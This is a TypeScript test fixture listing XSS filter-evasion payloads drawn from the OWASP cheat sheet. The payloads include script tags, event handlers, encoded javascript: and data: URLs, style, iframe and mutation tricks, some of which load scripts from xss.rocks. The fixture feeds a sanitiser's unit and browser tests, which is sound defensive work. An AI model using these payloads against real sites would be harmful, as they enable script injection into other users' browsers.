/**
 * Markup that tries to run script, from the OWASP XSS Filter Evasion Cheat Sheet and the
 * sanitiser bypasses that followed it. Each one, if it ran, would call `alert(1)` (or load a
 * script from xss.rocks or a `javascript:` address), so a browser test that renders the sanitised
 * output can listen for dialogs. `rich-text.test.ts` runs every one through the sanitiser; the
 * end-to-end tests render them in Chromium.
 */
export interface XssPayload {
  name: string;
  html: string;
}

const b64Script = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>
const decimal = (s: string, pad = 0) => [...s].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, '0')}`).join('');
const hex = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join('');

export const xssPayloads: readonly XssPayload[] = [
  // Script tags
  { name: 'script tag', html: '<script>alert(1)</script>' },
  { name: 'script tag, mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with src', html: '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>' },
  { name: 'script, non-alpha separator', html: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { name: 'script, extraneous open brackets', html: '<<SCRIPT>alert(1);//\\<</SCRIPT>' },
  { name: 'script, no closing tag', html: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >' },
  { name: 'script, protocol-relative src', html: '<SCRIPT SRC=//xss.rocks/.j>' },
  { name: 'script, unclosed', html: '<p>before</p><script>alert(1)' },
  { name: 'script split by a script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'end title, then script', html: '</TITLE><SCRIPT>alert(1);</SCRIPT>' },
  { name: 'attribute break-out', html: '"><script>alert(1)</script>' },
  { name: 'malformed img then script', html: '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>' },
  { name: 'script in svg', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'script in template', html: '<template><script>alert(1)</script></template>' },
  { name: 'script in textarea', html: '<textarea><script>alert(1)</script></textarea>' },
  { name: 'markup in xmp', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'noscript mutation', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  {
    name: 'option with encoded script',
    html: '<select><option>&lt;script&gt;alert(1)&lt;/script&gt;</option></select>',
  },

  // Event handlers
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror, unclosed', html: '<img src=x onerror=alert(1)//' },
  { name: 'img onmouseover', html: '<IMG SRC=# onmouseover="alert(1)">' },
  { name: 'img onerror, char codes', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  { name: 'img onerror, padded references', html: `<img src=x onerror="${decimal('javascript:alert(1)', 7)}">` },
  { name: 'svg onload', html: '<svg/onload=alert(1)>' },
  { name: 'svg onload, spaced', html: '<svg onload="alert(1)"></svg>' },
  { name: 'body onload', html: '<BODY ONLOAD=alert(1)>' },
  { name: 'link onmouseover', html: '<a onmouseover="alert(1)">xxs link</a>' },
  { name: 'allowed tag with a handler', html: '<p onclick="alert(1)">click</p>' },
  { name: 'allowed tag with a handler, unclosed', html: '<p onclick=alert(1)' },
  { name: 'good link with a handler', html: '<a href="https://ok.example/" onclick="alert(1)">ok</a>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'math onclick', html: '<math><mi onclick="alert(1)">x</mi></math>' },
  { name: 'math mutation', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },

  // javascript: addresses in every spelling
  { name: 'img javascript src', html: '<IMG SRC="javascript:alert(1);">' },
  { name: 'img javascript src, unquoted', html: '<IMG SRC=javascript:alert(1)>' },
  { name: 'img javascript src, half open', html: '<IMG SRC="javascript:alert(1)"' },
  { name: 'link javascript:', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'link JaVaScRiPt:', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'link &#106;avascript:', html: '<a href="&#106;avascript:alert(1)">x</a>' },
  { name: 'link, decimal references', html: `<a href="${decimal('javascript:alert(1)')}">x</a>` },
  {
    name: 'link, decimal references with semicolons',
    html: `<a href="${decimal('javascript:alert(1)').replace(/(&#\d+)/g, '$1;')}">x</a>`,
  },
  { name: 'link, padded decimal references', html: `<a href="${decimal('javascript:alert(1)', 7)}">x</a>` },
  { name: 'link, hex references', html: `<a href="${hex('javascript:alert(1)')}">x</a>` },
  { name: 'link, tab', html: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'link, encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'link, &Tab;', html: '<a href="java&Tab;script:alert(1)">x</a>' },
  { name: 'link, encoded newline', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'link, encoded carriage return', html: '<a href="jav&#x0D;ascript:alert(1)">x</a>' },
  { name: 'link, NUL byte', html: '<a href="java\0script:alert(1)">x</a>' },
  { name: 'link, control character first', html: '<a href=" &#14;  javascript:alert(1)">x</a>' },
  { name: 'link, &colon;', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'link, unquoted with spaces', html: '<a href=  javascript:alert(1) >x</a>' },
  { name: 'link, unclosed', html: '<a href="javascript:alert(1)" ' },
  { name: 'link, fullwidth letters', html: '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>' },
  { name: 'link around allowed markup', html: '<p><a href="javascript:alert(1)"><strong>bold</strong></a></p>' },
  { name: 'link data:text/html', html: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'link data: base64', html: `<a href="data:text/html;base64,${b64Script}">x</a>` },
  { name: 'link DATA:, upper case', html: `<a href="DATA:text/html;base64,${b64Script}">x</a>` },
  { name: 'link vbscript:', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'link VBScript:, mixed case', html: '<a href="VBScript:msgbox(1)">x</a>' },
  { name: 'link protocol-relative', html: '<a href="//evil.example/">x</a>' },
  { name: 'link protocol-relative, backslashes', html: '<a href="\\\\evil.example/">x</a>' },
  { name: 'link protocol-relative, mixed slashes', html: '<a href="/\\evil.example/">x</a>' },
  { name: 'input image javascript src', html: '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">' },
  { name: 'body background javascript:', html: '<BODY BACKGROUND="javascript:alert(1)">' },
  { name: 'img dynsrc javascript:', html: '<IMG DYNSRC="javascript:alert(1)">' },
  { name: 'table background javascript:', html: '<TABLE BACKGROUND="javascript:alert(1)">' },
  { name: 'base href javascript:', html: '<BASE HREF="javascript:alert(1);//">' },
  {
    name: 'svg link javascript:',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  },
  { name: 'math href javascript:', html: '<math href="javascript:alert(1)">CLICKME</math>' },
  { name: 'form action javascript:', html: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { name: 'button formaction javascript:', html: '<button formaction=javascript:alert(1)>go</button>' },

  // Styles
  { name: 'style @import', html: "<style>@import 'http://xss.rocks/xss.css';</style>" },
  { name: 'style @import, escaped', html: "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>" },
  {
    name: 'style list image',
    html: '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  },
  { name: 'stylesheet link', html: '<LINK REL="stylesheet" HREF="javascript:alert(1);">' },
  { name: 'div background url', html: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'div expression', html: '<DIV STYLE="width: expression(alert(1));">x</DIV>' },
  { name: 'allowed tag with a style', html: '<p style="background-image: url(&#1;javascript:alert(1))">x</p>' },
  { name: 'behavior', html: '<XSS STYLE="behavior: url(xss.htc);">' },

  // Embedded documents and refreshes
  { name: 'iframe javascript:', html: '<IFRAME SRC="javascript:alert(1);"></IFRAME>' },
  { name: 'iframe, double open bracket', html: '<iframe src=http://xss.rocks/scriptlet.html <' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'frameset', html: '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>' },
  { name: 'object', html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>' },
  { name: 'embed svg', html: `<EMBED SRC="data:image/svg+xml;base64,${b64Script}" type="image/svg+xml">` },
  { name: 'meta refresh javascript:', html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">' },
  {
    name: 'meta refresh data:',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${b64Script}">`,
  },

  // Comments, CDATA and broken markup
  { name: 'comment', html: '<!--<img src=x onerror=alert(1)>-->' },
  { name: 'conditional comment', html: '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->' },
  { name: 'unclosed comment', html: '<p>a</p><!--<script>alert(1)</script>' },
  { name: 'CDATA', html: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'CDATA break-out', html: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
  { name: 'bogus closing tag', html: '</p onclick=alert(1)><p>x</p>' },
  { name: 'slash in attributes', html: '<img/src="x"/onerror=alert(1)>' },
  { name: 'unclosed attribute quote', html: '<a href="https://ok.example/ onclick=alert(1)>x</a>' },
  { name: 'class, id and data attributes', html: '<h1 class="ql-x" id="y" data-x="1" style="color:red">hi</h1>' },
];
